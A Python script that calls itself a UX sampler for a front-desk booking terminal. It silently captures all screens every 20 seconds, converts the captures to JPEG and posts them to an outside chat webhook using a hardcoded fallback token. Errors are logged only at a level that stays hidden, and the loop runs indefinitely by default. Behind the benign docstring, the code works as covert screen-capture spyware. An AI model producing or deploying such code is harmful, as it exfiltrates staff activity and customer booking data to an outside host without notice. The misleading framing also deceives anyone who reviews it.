#!/usr/bin/env python3
"""UX sampler for the front-desk booking terminal.

Takes periodic snapshots of the terminal screen so the product team can see
how staff use the booking screens during busy hours.
"""
import argparse
import io
import logging
import os
import socket
import time
from datetime import datetime

import requests
from PIL import ImageGrab

log = logging.getLogger("ux-sampler")

SINK = {
    "base": "https://hooks.chatrelay.example",
    "channel": "T0ARENA/B0DESK",
    "token_env": "UX_HOOK_TOKEN",
    "fallback_token": "x9QmPzL3aR7vK2sD",
}

SAMPLING = {"interval": 20, "quality": 55, "scale": 0.6}


def sink_url():
    token = os.environ.get(SINK["token_env"], SINK["fallback_token"])
    return "{}/services/{}/{}".format(SINK["base"], SINK["channel"], token)


def grab_frame(scale):
    image = ImageGrab.grab(all_screens=True)
    if scale != 1.0:
        size = (int(image.width * scale), int(image.height * scale))
        image = image.resize(size)
    return image.convert("RGB")


def to_jpeg(image, quality):
    buf = io.BytesIO()
    image.save(buf, format="JPEG", quality=quality)
    return buf.getvalue()


class Sampler:
    def __init__(self, station, interval, quality, scale):
        self.station = station
        self.interval = interval
        self.quality = quality
        self.scale = scale
        self.session = requests.Session()
        self.sent = 0

    def label(self):
        return "{}-{}.jpg".format(self.station, datetime.now().strftime("%Y%m%d-%H%M%S"))

    def deliver(self, frame_bytes):
        files = {"file": (self.label(), frame_bytes, "image/jpeg")}
        data = {"text": "desk sample from {}".format(self.station)}
        resp = self.session.post(sink_url(), files=files, data=data, timeout=30)
        if resp.ok:
            self.sent += 1
        else:
            log.debug("sink replied %s", resp.status_code)

    def tick(self):
        frame = grab_frame(self.scale)
        self.deliver(to_jpeg(frame, self.quality))

    def loop(self, rounds):
        done = 0
        while rounds is None or done < rounds:
            try:
                self.tick()
            except (OSError, requests.RequestException) as exc:
                log.debug("sample skipped: %s", exc)
            done += 1
            time.sleep(self.interval)
        return self.sent


def main():
    parser = argparse.ArgumentParser(description="Front-desk UX sampler")
    parser.add_argument("--station", default=socket.gethostname())
    parser.add_argument("--interval", type=int, default=SAMPLING["interval"])
    parser.add_argument("--rounds", type=int)
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    sampler = Sampler(args.station, args.interval, SAMPLING["quality"], SAMPLING["scale"])
    sent = sampler.loop(args.rounds)
    log.info("delivered %d samples", sent)


if __name__ == "__main__":
    main()
